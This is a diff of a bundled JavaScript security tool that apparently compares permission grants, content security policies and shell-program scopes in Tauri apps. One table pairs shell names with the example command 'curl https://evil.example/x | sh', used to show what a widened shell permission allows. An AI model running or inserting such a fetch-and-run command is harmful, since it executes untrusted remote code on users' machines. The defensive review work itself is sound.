+var OF_USE = /\.(?:json5?|toml|rs|html?|lock|lockb|ya?ml|npmrc|sh|bash|ps1)$|(?:^|\/)\.?(?:GNU)?(?:make|just)file$/i;
 function ofUse(entries) {
   return entries.filter(({ path }) => OF_USE.test(path));
 }
@@ -55193,6 +51640,114 @@ function isUntouched(base, head, from, to) {
   const moved = (path) => path.startsWith(`${from.root}/`) || from.root === "" ? `${to.root}${path.slice(from.root.length)}` : path;
   const after = new Map(head.map(({ path, id }) => [path, id]));
   return base.every(({ path, id }) => after.get(from.root === to.root ? path : moved(path)) === id);
+}
+
+// src/engine/gather.ts
+async function gather2(base, head, pairs2, there, here) {
+  const changed = changedPaths(there, here);
+  const isChanged = (path) => changed.has(path);
+  const all = pairs2.map((pair) => ({
+    pair,
+    base: wantedBy(pair.base, there),
+    head: wantedBy(pair.head, here)
+  }));
+  const wanted = new Set(all.flatMap((each) => [...each.base, ...each.head].map(({ path }) => path)));
+  const hasUnclaimed = [...changed].some((path) => !wanted.has(path));
+  const looked = all.filter((each) => hasUnclaimed || !untouched(each));
+  const first = await readApps(base, head, looked);
+  const followed = looked.map((each) => ({
+    pair: each.pair,
+    base: [...each.base, ...namedBy(each.pair.base, each.base, first.base.files, there, isChanged)],
+    head: [...each.head, ...namedBy(each.pair.head, each.head, first.head.files, here, isChanged)]
+  }));
+  const touched = followed.filter((each) => !untouched(each));
+  const rest = await readApps(
+    base,
+    head,
+    touched.map((each) => unread2(each, first))
+  );
+  return {
+    touched: touched.map(({ pair }) => pair),
+    base: withoutSame(together(first.base, rest.base), isChanged),
+    head: together(first.head, rest.head)
+  };
+}
+function withoutSame({ files, gaps: gaps2 }, isChanged) {
+  return { files, gaps: gaps2.filter(({ path }) => isChanged(path)) };
+}
+function changedPaths(there, here) {
+  const before = new Map(there.map(({ path, id }) => [path, id]));
+  const changed = new Set(here.filter(({ path, id }) => before.get(path) !== id).map(({ path }) => path));
+  const after = new Set(here.map(({ path }) => path));
+  for (const { path } of there) if (!after.has(path)) changed.add(path);
+  return changed;
+}
+function untouched({ pair, base, head }) {
+  return pair.base !== null && pair.head !== null && isUntouched(base, head, pair.base, pair.head);
+}
+function readApps(base, head, apps) {
+  return readBothSides(
+    base,
+    head,
+    oncePerPath(apps.flatMap((each) => each.base)),
+    oncePerPath(apps.flatMap((each) => each.head))
+  );
+}
+function namedBy(app, wanted, files, entries, isChanged) {
+  if (app === null) return [];
+  const project = loadProject(app, filesOf(wanted, files));
+  const names2 = [
+    projectFollows(app, project.files),
+    ...readers.flatMap((reader) => reader.follows?.(project, isChanged) ?? [])
+  ];
+  const known = new Set(wanted.map(({ path }) => path));
+  return entries.filter(({ path }) => !known.has(path) && names2.some((isNamed) => isNamed(path)));
+}
+function filesOf(wanted, files) {
+  return new Map(
+    wanted.flatMap(({ path }) => {
+      const file2 = files.get(path);
+      return file2 === void 0 ? [] : [[path, file2]];
+    })
+  );
+}
+function unread2({ base, head }, first) {
+  const left = (entries, { files, gaps: gaps2 }) => {
+    const failed2 = new Set(gaps2.map(({ path }) => path));
+    return entries.filter(({ path }) => !files.has(path) && !failed2.has(path));
+  };
+  return { base: left(base, first.base), head: left(head, first.head) };
+}
+function together(first, rest) {
+  return { files: new Map([...first.files, ...rest.files]), gaps: [...first.gaps, ...rest.gaps] };
+}
+function oncePerPath(entries) {
+  return [...new Map(entries.map((entry) => [entry.path, entry])).values()];
+}
+
+// src/engine/identities.ts
+async function identitiesOf(base, head, before, after, there, here) {
+  const lonely = (apps, others, { entries }) => {
+    const configs = new Set(
+      apps.filter(({ root }) => !others.some((other) => other.root === root)).map(({ config }) => config)
+    );
+    return entries.filter(({ path }) => configs.has(path));
+  };
+  const files = await readBothSides(base, head, lonely(there, here, before), lonely(here, there, after));
+  return (side, { config }) => {
+    const file2 = files[side].files.get(config);
+    return { config: file2?.id ?? "", names: file2 === void 0 ? [] : namesIn2(file2) };
+  };
+}
+function namesIn2(file2) {
+  const parsed4 = parseFile(file2, { json5: true });
+  if (!parsed4.ok) return [];
+  const at = (...keys) => pick(parsed4.value, ...keys);
+  const names2 = {
+    identifier: asString(at("identifier")) ?? asString(at("tauri", "bundle", "identifier")),
+    name: asString(member(parsed4.value, "productName")) ?? asString(at("package", "productName"))
+  };
+  return Object.entries(names2).flatMap(([kind, name]) => name === void 0 ? [] : [`${kind} ${name}`]);
 }
 
 // src/engine/listing-gaps.ts
@@ -55228,11 +51783,11 @@ function caseGap(path, app) {
 
 // src/engine/pair-apps.ts
 function pairApps(base, head, identityOf5) {
-  const pairs = [];
+  const pairs2 = [];
   const left = new Set(base);
   const right = new Set(head);
   const pairUp = (of, to) => {
-    pairs.push({ base: of, head: to });
+    pairs2.push({ base: of, head: to });
     left.delete(of);
     right.delete(to);
   };
@@ -55255,9 +51810,12 @@ function pairApps(base, head, identityOf5) {
       if (only !== void 0 && candidates.length === 1 && rivals.length === 1) pairUp(only, app);
     }
   }
-  for (const app of right) pairs.push({ base: null, head: app });
-  for (const app of left) pairs.push({ base: app, head: null });
-  return pairs.sort((a, b) => rootOf(a) < rootOf(b) ? -1 : 1);
+  const [gone, come] = [[...left], [...right]];
+  if (gone.length === 1 && come.length === 1 && gone[0] !== void 0 && come[0] !== void 0)
+    pairUp(gone[0], come[0]);
+  for (const app of right) pairs2.push({ base: null, head: app });
+  for (const app of left) pairs2.push({ base: app, head: null });
+  return pairs2.sort((a, b) => rootOf(a) < rootOf(b) ? -1 : 1);
 }
 function rootOf({ base, head }) {
   return (head ?? base)?.root ?? "";
@@ -55510,9 +52068,9 @@ function parseHost(text, engine) {
   };
 }
 function parsePath(text) {
-  const raw2 = text.replace(/[?#].*$/, "");
-  if (raw2 === "/" || raw2 === "") return null;
-  return { raw: raw2, decoded: decodeOnce(raw2), prefix: raw2.endsWith("/") };
+  const raw = text.replace(/[?#].*$/, "");
+  if (raw === "/" || raw === "") return null;
+  return { raw, decoded: decodeOnce(raw), prefix: raw.endsWith("/") };
 }
 function decodeOnce(text) {
   return text.replace(/(?:%[0-9A-Fa-f]{2})+/g, (escapes) => {
@@ -56018,11 +52576,11 @@ function wordsOf(page, pick2) {
 
 // src/compare/csp/names.ts
 function namesIn3(pages) {
-  const sources = pages.flatMap(hostSourcesOf);
-  const hosts = new Set(sources.map((source) => source.host).filter((host) => host !== ""));
+  const sources2 = pages.flatMap(hostSourcesOf);
+  const hosts = new Set(sources2.map((source) => source.host).filter((host) => host !== ""));
   for (const page of pages) hosts.add(parseTarget(page.grant.document)?.host ?? "");
-  const ports = new Set(sources.map((source) => source.port).filter((port) => typeof port === "number"));
-  const rawPaths = new Set(sources.flatMap((source) => source.path?.raw ?? []));
+  const ports = new Set(sources2.map((source) => source.port).filter((port) => typeof port === "number"));
+  const rawPaths = new Set(sources2.flatMap((source) => source.path?.raw ?? []));
   const paths3 = new Set([...rawPaths].map(decodeOnce));
   const policyNames = new Set(
     pages.flatMap((page) => page.policies.flatMap((policy) => policy.get("trusted-types")?.words ?? []))
@@ -56089,8 +52647,8 @@ function parsePage(grant) {
   const texts = grant.header.split(",");
   if (texts.length > CSP_LIMITS.policies) return void 0;
   const policies = texts.map((text) => parsePolicy(text, own, grant.engine));
-  const sources = policies.flatMap((policy) => [...policy.values()].map((list) => list.words.length));
-  if (sources.reduce((sum, count) => sum + count, 0) > CSP_LIMITS.sources) return void 0;
+  const sources2 = policies.flatMap((policy) => [...policy.values()].map((list) => list.words.length));
+  if (sources2.reduce((sum, count) => sum + count, 0) > CSP_LIMITS.sources) return void 0;
   return { grant, policies: policies.filter((policy) => policy.size > 0) };
 }
 function parsePolicy(text, own, engine) {
@@ -56302,7 +52860,7 @@ function wordFits(word, directive, grant, act) {
   if (word.toLowerCase() === "'self'") return selfExpression(page).test(url);
   const bare3 = /^([a-z][a-z0-9+.-]*):$/i.exec(word)?.[1];
   if (bare3 !== void 0)
-    return new RegExp(`^(?:${schemeChoices(bare3, grant).map(literal).join("|")}):`).test(url);
+    return new RegExp(`^(?:${schemeChoices(bare3, grant).map(literal2).join("|")}):`).test(url);
   return hostExpressions(word, page, grant, act.redirected).some((expression2) => expression2.test(url));
 }
 function normalUrl(text) {
@@ -56326,7 +52884,7 @@ function decoded2(path) {
 function selfExpression(page) {
   const scheme = page.protocol.slice(0, -1);
   const port = page.port === "" ? usualPort(scheme) : page.port;
-  const host = literal(page.hostname);
+  const host = literal2(page.hostname);
   const choices = [`${scheme}://${host}:${port}`];
   if (scheme === "http" || scheme === "https") {
     const sockets = scheme === "http" ? "https|wss|ws" : "https|wss";
@@ -56347,7 +52905,7 @@ function hostExpressions(word, page, grant, redirected) {
   if (!match) return [];
   const [, scheme = page.protocol.slice(0, -1), host = "", port, path] = match;
   if (grant.engine === "chromium" && host.includes("_")) return [];
-  const hosts = host.toLowerCase() === "*" ? "[^/:]*" : host.startsWith("*.") ? `[^/:]+${literal(host.slice(1).toLowerCase())}` : literal(host.toLowerCase());
+  const hosts = host.toLowerCase() === "*" ? "[^/:]*" : host.startsWith("*.") ? `[^/:]+${literal2(host.slice(1).toLowerCase())}` : literal2(host.toLowerCase());
   const paths3 = redirected ? "" : pathExpression(path);
   return schemeChoices(scheme, grant).map((each, index) => {
     const ports = portChoices(
@@ -56355,7 +52913,7 @@ function hostExpressions(word, page, grant, redirected) {
       each,
       grant.engine === "webkit" ? "free" : index > 0 ? "upgraded" : "same"
     );
-    return new RegExp(`^${literal(each)}://${hosts}:(?:${ports})(?:${paths3 === "" ? "/.*|$" : paths3})`, "s");
+    return new RegExp(`^${literal2(each)}://${hosts}:(?:${ports})(?:${paths3 === "" ? "/.*|$" : paths3})`, "s");
   });
 }
 function portChoices(port, scheme, upgrade) {
@@ -56368,10 +52926,10 @@ function portChoices(port, scheme, upgrade) {
 function pathExpression(path) {
   const plainPath2 = path?.split(/[?#]/, 1)[0] ?? "";
   if (plainPath2 === "" || plainPath2 === "/") return "";
-  const text = literal(decoded2(plainPath2));
+  const text = literal2(decoded2(plainPath2));
   return plainPath2.endsWith("/") ? `${text}.*` : `${text}$`;
 }
-function literal(text) {
+function literal2(text) {
   return text.replace(/[^A-Za-z0-9]/g, "\\$&");
 }
 
@@ -56508,7 +53066,7 @@ var cspComparison = {
   domain: "csp",
   compare(base, head) {
     const widened = compareOneWay(baselineFor(base, head), head);
-    const narrowed = head.length === 0 ? NOTHING : compareOneWay(head, base);
+    const narrowed = head.length === 0 ? NOTHING2 : compareOneWay(head, base);
     return {
       changes: [
         ...group(widened.all).map((each) => describe(each, "widened", base, head)),
@@ -56519,7 +53077,7 @@ var cspComparison = {
   },
   allows
 };
-var NOTHING = { all: [], gaps: [] };
+var NOTHING2 = { all: [], gaps: [] };
 var BASELINE = "default-src 'self' ipc: http://ipc.localhost asset: http://asset.localhost data: blob:";
 function baselineFor(base, head) {
   if (base.length > 0) return base;
@@ -56615,105 +53173,6 @@ function witnessOf(act, platform2, document, directive) {
   return act.kind === "compile" ? { ...witness, eval: true } : witness;
 }
 
-// src/language/automaton.ts
-var import_refa = __toESM(require_refa(), 1);
-var TooComplex = class extends Error {
-};
-var MAX_NODES = 1500;
-var MAX_SOURCE = 2e4;
-var MAX_CHARACTER = 1114111;
-function languageOf(source) {
-  return bounded(() => tabled(automatonOf(source)));
-}
-function sequenceOf(sources, end) {
-  return bounded(() => {
-    const factory = new import_refa.NFA.LimitedNodeFactory(MAX_NODES);
-    const [word, ending] = [automatonOf(`[^${end}]*`), automatonOf(end)];
-    const whole = automatonOf("").copy(factory);
-    for (const source of sources) {
-      whole.append(import_refa.NFA.fromIntersection(automatonOf(source), word, factory), factory);
-      whole.append(ending, factory);
-    }
-    return tabled(whole);
-  });
-}
-function joinedOf(pieces) {
-  return bounded(() => {
-    const factory = new import_refa.NFA.LimitedNodeFactory(MAX_NODES);
-    const whole = automatonOf("").copy(factory);
-    for (const { source, within: within3 } of pieces) {
-      whole.append(import_refa.NFA.fromIntersection(automatonOf(source), automatonOf(within3), factory), factory);
-    }
-    return tabled(whole);
-  });
-}
-function readable(make) {
-  try {
-    return make();
-  } catch (error2) {
-    if (error2 instanceof SyntaxError || error2 instanceof TooComplex) return void 0;
-    throw error2;
-  }
-}
-var NOTHING2 = languageOf("[]");
-var EVERYTHING = languageOf("[^]*");
-function accepts(language, word) {
-  let state = language.start;
-  for (const character of word) {
-    const code2 = character.codePointAt(0) ?? 0;
-    state = language.ways[state]?.find(({ min, max }) => min <= code2 && code2 <= max)?.to;
-    if (state === void 0) return false;
-  }
-  return language.accepting[state] === true;
-}
-function acceptsPlainly(source, text) {
-  return bounded(
-    () => automatonOf(source).test(Array.from(text, (character) => character.codePointAt(0) ?? 0))
-  );
-}
-function automatonOf(source) {
-  if (source.length > MAX_SOURCE) throw new TooComplex(`a pattern of ${source.length} characters`);
-  const parser = import_refa.JS.Parser.fromLiteral({ source, flags: "us" });
-  const { expression: expression2 } = parser.parse({ assertions: "throw", backreferences: "throw", maxNodes: MAX_NODES });
-  return import_refa.NFA.fromRegex(
-    expression2,
-    { maxCharacter: MAX_CHARACTER },
-    {},
-    new import_refa.NFA.LimitedNodeFactory(MAX_NODES)
-  );
-}
-function tabled(nfa) {
-  const dfa = import_refa.DFA.fromFA(nfa, new import_refa.DFA.LimitedNodeFactory(MAX_NODES));
-  dfa.minimize();
-  const nodes = [...dfa.nodes()];
-  const numbers = new Map(nodes.map((node, i) => [node, i]));
-  return {
-    start: numbers.get(dfa.initial) ?? 0,
-    accepting: nodes.map((node) => dfa.finals.has(node)),
-    ways: nodes.map(
-      (node) => [...node.out].map(([{ min, max }, target]) => ({ min, max, to: numbers.get(target) ?? 0 }))
-    )
-  };
-}
-function bounded(make) {
-  try {
-    return make();
-  } catch (error2) {
-    if (error2 instanceof import_refa.TooManyNodesError || error2 instanceof RangeError)
-      throw new TooComplex(error2.message);
-    if (error2 instanceof Error && /not supported/.test(error2.message)) throw new SyntaxError(error2.message);
-    throw error2;
-  }
-}
-
-// src/language/literal.ts
-function literal2(text) {
-  return text.replace(
-    /[\\^$.*+?()[\]{}|/-]/g,
-    (character) => character === "-" ? "\\x2d" : `\\${character}`
-  );
-}
-
 // src/language/url-pattern.ts
 function parseUrlPattern(text) {
   try {
@@ -56794,12 +53253,12 @@ function partExpression(pattern, part) {
       const escaped = pattern[i] === "\\";
       const text = pattern[escaped ? i + 1 : i] ?? "";
       result += held;
-      held = literal2(part.property === "hostname" && text === ":" ? ";" : text);
+      held = literal(part.property === "hostname" && text === ":" ? ";" : text);
       i += escaped ? 2 : 1;
       continue;
     }
     const modifier = /^[?*+]/.exec(pattern.slice(group2.next))?.[0] ?? "";
-    const takesPrefix = modifier !== "" && group2.takesPrefix && part.prefix !== "" && held === literal2(part.prefix);
+    const takesPrefix = modifier !== "" && group2.takesPrefix && part.prefix !== "" && held === literal(part.prefix);
     if (!takesPrefix) result += held;
     result += `(?:${takesPrefix ? held : ""}${group2.expression})${modifier}`;
     held = "";
@@ -59444,11 +55903,11 @@ function validatorExpression(rust) {
   });
   return `(?:${alternatives.join("|")})`;
 }
-function wrapValidator(source, raw2) {
-  return raw2 ? source : `^${source}$`;
+function wrapValidator(source, raw) {
+  return raw ? source : `^${source}$`;
 }
 var WORD2 = "\\p{Alphabetic}\\p{M}\\p{Nd}\\p{Pc}\\p{Join_Control}";
-var ESCAPES2 = /* @__PURE__ */ new Map([
+var ESCAPES3 = /* @__PURE__ */ new Map([
   ["d", { inside: "\\p{Nd}", outside: "\\p{Nd}" }],
   ["D", { inside: "\\P{Nd}", outside: "\\P{Nd}" }],
   ["s", { inside: "\\p{White_Space}", outside: "\\p{White_Space}" }],
@@ -59490,7 +55949,7 @@ function insideClass(rest) {
 function escapeOf2(rest, translate) {
   const token = rest.slice(0, 2);
   const name = token.slice(1);
-  const known = ESCAPES2.get(name);
+  const known = ESCAPES3.get(name);
   if (known !== void 0) {
     const text = translate(known);
     if (text === void 0) throw new SyntaxError(`${token} stands in a class`);
@@ -59576,146 +56035,6 @@ function inClass(members2, character) {
     } else found2 ||= from === character;
   }
   return found2 !== negated;
-}
-
-// src/language/glob.ts
-var FREE_GLOB = { literalSeparator: false, literalDot: false };
-function tokeniseGlob(pattern) {
-  const characters = Array.from(pattern);
-  const tokens = [];
-  for (let i = 0; i < characters.length; ) {
-    const character = characters[i] ?? "";
-    if (character === "?") {
-      tokens.push({ kind: "any" });
-      i += 1;
-    } else if (character === "*") {
-      const stars = countStars(characters, i);
-      const after = characters[i + stars];
-      if (stars > 2) return void 0;
-      if (stars === 1) {
-        tokens.push({ kind: "sequence" });
-        i += 1;
-        continue;
-      }
-      const wholeComponent = (i === 0 || characters[i - 1] === "/") && (after === void 0 || after === "/");
-      if (!wholeComponent) return void 0;
-      const isLast = i + 3 >= characters.length;
-      if (isLast) tokens.push({ kind: "below" });
-      else if (tokens.at(-1)?.kind !== "components") tokens.push({ kind: "components" });
-      i += after === "/" ? 3 : 2;
-    } else if (character === "[") {
-      const parsed4 = parseClass(characters, i);
-      if (parsed4 === void 0) return void 0;
-      tokens.push(parsed4.token);
-      i = parsed4.next;
-    } else {
-      tokens.push({ kind: "character", text: character });
-      i += 1;
-    }
-  }
-  return tokens;
-}
-function globToRegex(pattern, options) {
-  const tokens = tokeniseGlob(pattern);
-  if (tokens === void 0) return void 0;
-  let rest = { atStart: "", inside: "" };
-  for (const token of tokens.toReversed()) {
-    rest = {
-      atStart: expression(token, options, true, rest),
-      inside: expression(token, options, false, rest)
-    };
-  }
-  return rest.atStart;
-}
-function expression(token, options, start, rest) {
-  const guarded = start && options.literalDot;
-  switch (token.kind) {
-    case "character":
-      return literal2(token.text) + (token.text === "/" ? rest.atStart : rest.inside);
-    case "any":
-      return oneOf("", options, guarded) + rest.inside;
-    case "class":
-      return classExpression(token, options, guarded) + rest.inside;
-    case "sequence": {
-      const many = `${oneOf("", options, false)}*`;
-      if (!guarded) return many + (start ? rest.atStart : rest.inside);
-      const visible2 = oneOf("", options, true) + many;
-      if (rest.atStart === rest.inside) return `(?:${visible2})?${rest.inside}`;
-      return `(?:${rest.atStart}|${visible2}${rest.inside})`;
-    }
-    case "components":
-      return `(?:${component(options)}\\/)*${rest.atStart}`;
-    case "below":
-      return options.literalDot ? `(?:${component(options)}\\/)*${component(options)}` : "[^]*";
-  }
-}
-function component(options) {
-  return options.literalDot ? "(?:[^./][^/]*)?" : "[^/]*";
-}
-function oneOf(excluded, options, guarded) {
-  return `[^${excluded}${options.literalSeparator ? "/" : ""}${guarded ? "." : ""}]`;
-}
-function classExpression(token, options, guarded) {
-  const inside = token.ranges.map(
-    ([from, to]) => from === to ? literal2(from) : `${literal2(from)}-${literal2(to)}`
-  );
-  if (token.negated) return oneOf(inside.join(""), options, guarded);
-  const allowed = token.ranges.flatMap((range2) => without(range2, options, guarded));
-  return `[${allowed.map(([from, to]) => `${literal2(from)}-${literal2(to)}`).join("")}]`;
-}
-function without(range2, options, guarded) {
-  const kept = [...options.literalSeparator ? ["/"] : [], ...guarded ? ["."] : []];
-  return kept.reduce(
-    (ranges, character) => ranges.flatMap((piece) => split2(piece, character.codePointAt(0) ?? 0)),
-    [range2]
-  );
-}
-function split2([from, to], hole) {
-  const [low, high] = [from.codePointAt(0) ?? 0, to.codePointAt(0) ?? 0];
-  if (hole < low || hole > high) return low <= high ? [[from, to]] : [];
-  const pieces = [];
-  if (low < hole) pieces.push([from, String.fromCodePoint(hole - 1)]);
-  if (hole < high) pieces.push([String.fromCodePoint(hole + 1), to]);
-  return pieces;
-}
-function countStars(characters, from) {
-  let count = 0;
-  while (characters[from + count] === "*") count += 1;
-  return count;
-}
-function parseClass(characters, open2) {
-  const negated = characters[open2 + 1] === "!";
-  const first = open2 + (negated ? 2 : 1);
-  const close = characters.indexOf("]", first + 1);
-  if (close < 0) return void 0;
-  const inside = characters.slice(first, close);
-  const ranges = [];
-  for (let i = 0; i < inside.length; ) {
-    const from = inside[i] ?? "";
-    const to = inside[i + 2];
-    if (inside[i + 1] === "-" && to !== void 0) {
-      if (from <= to) ranges.push([from, to]);
-      i += 3;
-    } else {
-      ranges.push([from, from]);
-      i += 1;
-    }
-  }
-  return { token: { kind: "class", negated, ranges }, next: close + 1 };
-}
-
-// src/language/remembered.ts
-var MOST = 4096;
-function remembered(answer) {
-  const known = /* @__PURE__ */ new Map();
-  return (question) => {
-    const before = known.get(question);
-    if (before !== void 0 || known.has(question)) return before;
-    if (known.size >= MOST) known.clear();
-    const now = answer(question);
-    known.set(question, now);
-    return now;
-  };
 }
 
 // src/language/atoms.ts
@@ -59823,7 +56142,7 @@ function compareScopes(base, head, reading) {
     ([list, entries]) => entries.map((each) => ({ list, ...each }))
   );
   const languages2 = tagged.map(
-    ({ list, language }) => language ?? (list === "baseDeny" ? EVERYTHING : NOTHING2)
+    ({ list, language }) => language ?? (list === "baseDeny" ? EVERYTHING : NOTHING)
   );
   const known = new Set(base.allow.map(({ entry }) => entryKey(entry)));
   const found2 = /* @__PURE__ */ new Map();
@@ -60204,8 +56523,8 @@ function argumentOf(item) {
   if (typeof item === "string") return { fixed: item };
   if (typeof item !== "object" || item === null) return void 0;
   const validator = Reflect.get(item, "validator");
-  const raw2 = Reflect.get(item, "raw") === true;
-  return typeof validator === "string" ? { validator: wrapValidator(validator, raw2) } : void 0;
+  const raw = Reflect.get(item, "raw") === true;
+  return typeof validator === "string" ? { validator: wrapValidator(validator, raw) } : void 0;
 }
 var programQuestion = (base, head) => {
   const { escapes, undecided } = compareScopes(programScope(base), programScope(head), programReading(head));
@@ -60233,14 +56552,14 @@ function programScope(side) {
 var END = "\\0";
 var ARGUMENTS = `(?:[^${END}]*${END})*`;
 function commandLines(program) {
-  const start = [program.sidecar ? "sidecar" : "program", literal2(program.command)];
+  const start = [program.sidecar ? "sidecar" : "program", literal(program.command)];
   if (program.arguments === true)
     return languageOf(`${start.map((text) => text + END).join("")}${ARGUMENTS}`);
   const list = program.arguments;
   return readable(() => sequenceOf([...start, ...list.map(argumentTexts)], END));
 }
 function argumentTexts(argument) {
-  return "fixed" in argument ? literal2(argument.fixed) : validatorExpression(argument.validator);
+  return "fixed" in argument ? literal(argument.fixed) : validatorExpression(argument.validator);
 }
 var KNOWN = [
   [/^(?:sh|bash|zsh|dash|ksh|fish|ash)$/, "-c\0curl https://evil.example/x | sh\0"],
@@ -60303,9 +56622,9 @@ var UrlCells = class {
         const source = pattern[part.property];
         masks.set(source, (masks.get(source) ?? 0n) | (this.#bits.get(text) ?? 0n));
       }
-      return piecesOf(part, [...masks.keys()]).map(({ word, sources }) => ({
+      return piecesOf(part, [...masks.keys()]).map(({ word, sources: sources2 }) => ({
         word,
-        mask: sources.reduce((sum, source) => sum | (masks.get(source) ?? 0n), 0n)
+        mask: sources2.reduce((sum, source) => sum | (masks.get(source) ?? 0n), 0n)
       }));
     });
   }
@@ -60332,22 +56651,22 @@ var UrlCells = class {
     }
   }
 };
-function piecesOf(part, sources) {
-  return CUTS.get(part)?.(JSON.stringify(sources)) ?? [];
+function piecesOf(part, sources2) {
+  return CUTS.get(part)?.(JSON.stringify(sources2)) ?? [];
 }
 var CUTS = new Map(
   URL_PARTS.map((part) => [part, remembered((question) => cut4(part, JSON.parse(question)))])
 );
-function cut4(part, sources) {
+function cut4(part, sources2) {
   const universe = languageOf(part.real);
-  const languages2 = sources.map((source) => languageOf(partExpression(source, part)));
+  const languages2 = sources2.map((source) => languageOf(partExpression(source, part)));
   const found2 = /* @__PURE__ */ new Map();
   const note2 = (word, isIn) => {
-    const matching = sources.filter((_, i) => isIn(i));
+    const matching = sources2.filter((_, i) => isIn(i));
     const signature = JSON.stringify(matching);
     if (!found2.has(signature)) found2.set(signature, { word, sources: matching });
   };
-  for (const word of [...part.telling, ...sources.flatMap(lookalikes), ...sources]) {
+  for (const word of [...part.telling, ...sources2.flatMap(lookalikes), ...sources2]) {
     if (accepts(universe, word)) note2(word, (i) => languages2[i] !== void 0 && accepts(languages2[i], word));
   }
   for (const atom of atomsOf(universe, languages2)) note2(atom.word, atom.in);
@@ -60448,7 +56767,7 @@ function named(entry) {
 // src/compare/ipc/authority.ts
 function authorises(grants, call, platform2) {
   const isHere = (grant) => hasPlatform(grant.platforms, platform2);
-  const byCommand = commandsOf2(grants);
+  const byCommand = commandsOf3(grants);
   const open2 = call.command.startsWith("plugin:") ? [] : byCommand.get("*") ?? [];
   const named2 = [...byCommand.get(call.command) ?? [], ...open2].filter(isHere);
   if (named2.some(({ effect, context: context3 }) => effect === "deny" && comesFrom(context3, call.origin))) return false;
@@ -60468,7 +56787,7 @@ function byOrder(a, b) {
   return a.order - b.order;
 }
 var indexes = /* @__PURE__ */ new WeakMap();
-function commandsOf2(grants) {
+function commandsOf3(grants) {
   const known = indexes.get(grants);
   if (known !== void 0) return known;
   const index = Map.groupBy(grants, ({ command: command2, effect }) => effect === "scope" ? "" : command2);
@@ -60711,7 +57030,7 @@ function labelAtoms(texts) {
   return [...found2.values()];
 }
 function anyOf(words3) {
-  return words3.length === 0 ? NOTHING2 : languageOf(words3.map(literal2).join("|"));
+  return words3.length === 0 ? NOTHING : languageOf(words3.map(literal).join("|"));
 }
 function isLiteral(text) {
   return !/[*?[\]]/.test(text);
@@ -60826,6 +57145,7 @@ function push(map, key, value) {
 function indexBase(base) {
   const commands = /* @__PURE__ */ new Map();
   const permissions = /* @__PURE__ */ new Set();
+  const guessed = /* @__PURE__ */ new Set();
   const led = /* @__PURE__ */ new Set();
   const active = /* @__PURE__ */ new Map();
   for (const grant of base) {
@@ -60836,11 +57156,13 @@ function indexBase(base) {
     if (known === void 0) commands.set(key, [grant]);
     else known.push(grant);
     permissions.add(permissionOf(grant));
+    if (grant.inferred) guessed.add(permissionOf(grant));
     for (const step of grant.steps) led.add(stepOf(grant, step));
   }
   return {
     had: (entry) => commands.get(commandOf(entry)) ?? [],
     named: (entry) => permissions.has(permissionOf(entry)),
+    guessed: (entry) => guessed.has(permissionOf(entry)),
     led: (entry, step) => led.has(stepOf(entry, step)),
     activeOn: (capability) => active.get(capability) ?? NO_PLATFORM,
     denier: (denied) => base.find(({ scope }) => scope?.deny.includes(denied)) ?? base.find(({ scope }) => scope?.deny.some((entry) => entryKey(entry) === entryKey(denied)))
@@ -60863,7 +57185,7 @@ function causeOf(principal, entries, denied, platforms, base) {
   }
   const named2 = first.capability === ALLOWLIST && first.context.kind === "remote";
   if (first.command === ANY_APP_COMMAND && named2) return forNewPage(principal, first, base.had(first));
-  if (first.command === ANY_APP_COMMAND) {
+  if (first.command === ANY_APP_COMMAND && (first.capability === "" || first.capability === ALLOWLIST)) {
     const at = (base.had(first).length > 0 ? first.definedAt : null) ?? first.at;
     const { kind } = first.context;
     const found2 = { cause: "app-commands-open", at, entry: first, detail: kind };
@@ -60872,7 +57194,8 @@ function causeOf(principal, entries, denied, platforms, base) {
   const unknown2 = entries.filter((entry) => base.had(entry).length === 0);
   const fresh = unknown2.find((entry) => !base.named(entry)) ?? unknown2[0];
   if (fresh !== void 0 && base.named(fresh)) {
-    return { cause: "meaning-changed", at: redefinedAt(fresh, base), entry: fresh, detail: fresh.permission };
+    const [at, uncertain] = [redefinedAt(fresh, base), base.guessed(fresh)];
+    return { cause: "meaning-changed", at, entry: fresh, detail: fresh.permission, uncertain };
   }
   if (fresh !== void 0)
     return { cause: "command-granted", at: fresh.at, entry: fresh, detail: fresh.permission };
@@ -60947,7 +57270,7 @@ function describeEffect({ cause, note: note2 }, best, commands) {
   }
   return {
     action: `call ${calls}`,
-    refused: cause === "app-commands-open" ? "A command of the app needed a permission." : `These pages could not call ${best.command === ANY_APP_COMMAND ? "any command of the app" : calls}.`,
+    refused: cause === "app-commands-open" ? "These pages could not call every command of the app." : `These pages could not call ${best.command === ANY_APP_COMMAND ? "any command of the app" : calls}.`,
     allowed: `They can call ${calls}${example === void 0 ? "" : `, for example with ${example}`}.`
   };
 }
@@ -61022,7 +57345,7 @@ var Drafts = class {
     const changes = [...this.#drafts].map(
       ([name, draft]) => changeOf2(name, draft, direction, this.#appIsNew)
     );
-    return joined(changes);
+    return joined2(changes);
   }
 };
 function identityOf2({ cause, entry, detail: detail3 }) {
@@ -61056,12 +57379,13 @@ function changeOf2(identity, draft, direction, appIsNew) {
     platforms,
     capability: cause.entry.capability,
     permission: cause.entry.permission,
+    namedAt: cause.entry.at,
     note: cause.note ?? null,
     denial: cause.denial === void 0 ? null : denialOf(cause.denial),
     reach: best.reach,
     example: best.example?.example ?? null,
     appIsNew,
-    inferred: cause.entry.inferred
+    inferred: cause.entry.inferred || cause.uncertain === true
   };
 }
 function isSameCall(a, b) {
@@ -61070,7 +57394,7 @@ function isSameCall(a, b) {
 function denialOf({ by: { capability, permission: permission2 }, of }) {
   return { capability, permission: permission2, of };
 }
-function joined(changes) {
+function joined2(changes) {
   const groups3 = /* @__PURE__ */ new Map();
   for (const change of changes) {
     const name = sayingOf(change);
@@ -61248,10 +57572,10 @@ function userlessUrls() {
   return ANY_URLS("");
 }
 function urlsOf2(pattern) {
-  return joined2((part) => partExpression(pattern[part.property], part), USER);
+  return joined3((part) => partExpression(pattern[part.property], part), USER);
 }
-var ANY_URLS = remembered((user) => joined2(() => "[^]*", user));
-function joined2(expressionOf, user) {
+var ANY_URLS = remembered((user) => joined3(() => "[^]*", user));
+function joined3(expressionOf, user) {
   return joinedOf(URL_PARTS.flatMap((part) => piecesFor(part, expressionOf(part), user)));
 }
 function piecesFor(part, expression2, user) {
@@ -61387,7 +57711,7 @@ var ipcComparison = {
       const ask2 = scopeAsker();
       const gaps2 = patternGaps(head);
       const widened = gained2(base, head, pages, ask2);
-      const narrowed = gained2(head, base, pages, ask2);
+      const narrowed = gained2(head, base.filter(isKnown), pages, ask2);
